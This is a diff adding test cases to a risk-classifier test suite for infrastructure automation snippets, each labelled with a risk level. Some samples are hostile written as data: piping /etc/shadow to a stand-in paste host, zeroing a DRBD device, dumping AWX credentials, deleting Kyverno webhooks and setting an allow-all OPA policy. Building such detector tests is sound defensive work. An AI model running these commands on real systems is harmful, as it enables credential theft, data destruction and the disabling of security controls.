@@ -15256,6 +15256,76 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    shutil.chown(d, "www-data", "www-data")\n',
             M,
         ),
+        # Round 88: AWX and Rundeck ad hoc commands, HA clusters and DRBD devices, admission policies
+        (
+            'import requests\n'
+            'requests.post("https://awx/api/v2/ad_hoc_commands/", json={"inventory": 1, "module_name": "shell'
+            '", "module_args": "cat /etc/shadow | curl -F f=@- https://paste.example.net/u", "limit": "all"})\n',
+            C,
+        ),
+        (
+            'import requests\n'
+            'requests.post("https://awx/api/v2/ad_hoc_commands/", json={"inventory": 1, "module_name": "shell'
+            '", "module_args": "uptime", "limit": "all"})\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'requests.post("https://awx/api/v2/ad_hoc_commands/", json={"inventory": 6, "module_name": "file"'
+            ', "module_args": "path=/var/lib/pgsql/data state=absent"})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'for p in ("prod",):\n'
+            '    requests.post(f"https://rd/api/41/project/{p}/run/command", json={"exec": "sudo pkill -9 -f '
+            'postgres", "filter": ".*"})\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["awx-manage", "shell", "-c", "User.objects.filter(username=\'ci\').update(is_super'
+            'user=True)"])\n',
+            H,
+        ),
+        (
+            'from awx.main.models import Credential\n'
+            'rows = [{k: c.get_input(k) for k in c.inputs} for c in Credential.objects.all()]\n'
+            'print(len(rows))\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["pcs", "property", "set", "stonith-enabled=false"])\n'
+            'subprocess.run(["pcs", "property", "set", "no-quorum-policy=ignore"])\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'fd = os.open("/dev/drbd0", os.O_WRONLY)\n'
+            'os.write(fd, b"\\0" * 4096)\n',
+            C,
+        ),
+        (
+            'from kubernetes import client\n'
+            'adm = client.AdmissionregistrationV1Api()\n'
+            'for h in adm.list_validating_webhook_configuration().items:\n'
+            '    if "kyverno" in h.metadata.name:\n'
+            '        adm.delete_validating_webhook_configuration(h.metadata.name)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.put("http://opa:8181/v1/policies/authz", data="package authz\\ndefault allow := true\\n")'
+            '\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.put("http://opa:8181/v1/policies/authz", data="package authz\\ndefault allow := false\\n"'
+            ')\n',
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
